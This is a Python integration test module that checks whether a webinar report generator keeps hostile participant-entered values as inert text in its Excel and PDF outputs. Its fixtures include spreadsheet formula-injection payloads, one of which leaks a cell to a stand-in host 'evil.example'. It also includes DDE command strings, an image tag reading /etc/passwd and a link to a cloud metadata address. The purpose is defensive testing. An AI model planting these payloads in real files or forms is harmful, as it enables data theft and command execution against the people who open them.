"""Values typed by strangers stay text: no formula in the workbook, no markup or fetch in PDF."""

from __future__ import annotations

import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from urllib.parse import urlsplit

import openpyxl
import pytest

from webstat.reports import pdf as pdf_module
from webstat.reports import render_event_session_report

pytestmark = pytest.mark.integration

IMG = '<img src="file:///etc/passwd">'
SCRIPT = "<script>alert(1)</script>"
LINK = '<a href="http://169.254.169.254/latest/meta-data/">x</a>'
FORMULAS = {
    "u-eq": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "u-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "u-plus": "+1+1",
    "u-minus": "-2+3",
    "u-tab": "\t=1+1",
    "u-cr": "\r=1+1",
}
LABEL_FORMULA = '=HYPERLINK("http://evil.example","label")'
LABEL_LONG = "Должность" * 40
ATTENDED = {"connections_count": 1, "presence_seconds": 60, "presence_pct": 1}


@pytest.fixture(scope="module")
def hostile(marts, tmp_path_factory):
    """A session whose names, chat names and fields are hostile; rendered once."""
    from webstat.settings import load_settings

    sid = "es-hostile"
    marts.insert(
        "fct_event_sessions",
        [
            marts.session_row(
                sid, webinar_name=f"Вебинар {SCRIPT}", participants_count=len(FORMULAS) + 1
            )
        ],
    )
    rows = [
        marts.participant_row(
            sid,
            "u-img",
            first_name=IMG,
            last_name=SCRIPT,
            chat_name=LINK,
            email="x@example.com",
            is_guest=False,
            city="=cmd|' /C calc'!A0",
            registration_fields={
                "Компания": "=1+1",
                "<b>": "&amp;",
                LABEL_FORMULA: "y",
                LABEL_LONG: "long",
            },
            first_joined_at=marts.session_row(sid)["started_at"],
            connections_count=1,
            presence_seconds=60,
            presence_pct=1,
        )
    ]
    for pid, text in FORMULAS.items():
        rows.append(
            marts.participant_row(
                sid,
                pid,
                first_name="Имя",
                last_name=pid,
                chat_name=text,
                email=f"{pid}@example.com",
                is_guest=False,
                **ATTENDED,
            )
        )
    rows.append(
        marts.participant_row(
            sid,
            "u-ctl",
            first_name="bell\x07here",
            last_name="_x0041_ stays",
            chat_name="  spaced  ",
            **ATTENDED,
        )
    )
    marts.insert("fct_participants", rows)
    settings = load_settings({"WEBSTAT_ARTIFACTS_URI": str(tmp_path_factory.mktemp("h"))})
    fetchers = []
    original = pdf_module.url_fetcher

    def recording_fetcher():
        fetcher = original()
        fetchers.append(fetcher)
        return fetcher

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(pdf_module, "url_fetcher", recording_fetcher)
        with marts.connect() as conn:
            result = render_event_session_report(conn, sid, settings)
    return result, fetchers


def path(result, name: str) -> Path:
    return Path(urlsplit(result.files[name]).path)


def test_formula_like_text_stays_text_as_typed(hostile, sheet_table):
    result, _ = hostile
    wb = openpyxl.load_workbook(path(result, "report.xlsx"))
    rows = {r["ID участника"].value: r for r in sheet_table(wb["Участники"])}
    for pid, text in FORMULAS.items():
        cell = rows[pid]["Имя в чате"]
        assert cell.data_type == "s", pid
        assert cell.value == text, pid  # a CR survives too (written as &#13;)
        assert cell.quotePrefix, pid  # Excel keeps it text even when edited
    hostile_row = rows["u-img"]
    assert hostile_row["Имя"].value == IMG
    assert hostile_row["Город"].value == "=cmd|' /C calc'!A0"
    assert hostile_row["Город"].data_type == "s"
    # each field in its own column, its label the header, all of it text
    assert hostile_row["<b>"].value == "&amp;"
    assert hostile_row["Компания"].value == "=1+1" and hostile_row["Компания"].quotePrefix
    assert hostile_row[LABEL_FORMULA].value == "y"
    clipped = LABEL_LONG[:99] + "…"  # a header shows 100 characters of a label
    assert hostile_row[clipped].value == "long"
    headers = {c.value: c for c in wb["Участники"][2]}
    formula_header = headers[LABEL_FORMULA]
    assert formula_header.data_type == "s" and formula_header.quotePrefix
    assert wb["Участники"].row_dimensions[2].height <= 8 * 15 + 2  # tall, not endless
    ctl = rows["u-ctl"]
    assert ctl["Имя"].value == "bell\ufffdhere"  # XML cannot carry BEL
    assert ctl["Имя в чате"].value == "  spaced  "
    # no cell of any sheet is a formula
    with zipfile.ZipFile(path(result, "report.xlsx")) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert not re.search(rb"<f[ >]", z.read(name)), name


def test_sheet_xml_holds_inline_strings(hostile):
    result, _ = hostile
    with zipfile.ZipFile(path(result, "report.xlsx")) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert '&lt;img src="file:///etc/passwd"&gt;' in xml
    assert re.search(r'<c r="[A-Z]+\d+" s="\d+" t="inlineStr"><is><t>=HYPERLINK\(', xml)
    # Excel reads _xHHHH_ in a string as an escaped character (_x0041_ = "A"): the
    # literal text is kept by escaping its underscore (openpyxl shows the raw form)
    assert "<t>_x005F_x0041_ stays</t>" in xml


def test_pdf_shows_markup_as_text_and_fetches_nothing(hostile, pdf_text, in_runs):
    result, fetchers = hostile
    text = pdf_text(path(result, "report.pdf"))
    # the name wraps within its column: its lines come in the text layer between the
    # row's other cells
    assert in_runs(re.sub(r"\s", "", IMG + SCRIPT), re.sub(r"\s", "", text))
    assert f"Вебинар {SCRIPT}" in text
    assert "root:x:0:0" not in text
    assert len(fetchers) == 1
    assert fetchers[0].refused == []
    assert fetchers[0].requested == ["webstat-asset:logo.svg"]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_workbook_and_keeps_formulas_as_text(hostile, tmp_path):
    """A real spreadsheet program reads the workbook, and shows the would-be formulas as text."""
    result, _ = hostile
    source = tmp_path / "hostile.xlsx"
    shutil.copy(path(result, "report.xlsx"), source)
    # every sheet to CSV (UTF-8, comma, quoted), values as shown
    csv_filter = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1"
    subprocess.run(
        [
            "soffice",
            "--headless",
            "--norestore",
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--convert-to",
            csv_filter,
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    participants = (tmp_path / "hostile-Участники.csv").read_text(encoding="utf-8")
    assert FORMULAS["u-eq"].replace('"', '""') in participants
    assert "@SUM(1+1)" in participants and "+1+1" in participants
    assert IMG.replace('"', '""') in participants
    assert "Europe/Moscow (UTC+03:00)" in (tmp_path / "hostile-Мероприятие.csv").read_text(
        encoding="utf-8"
    )
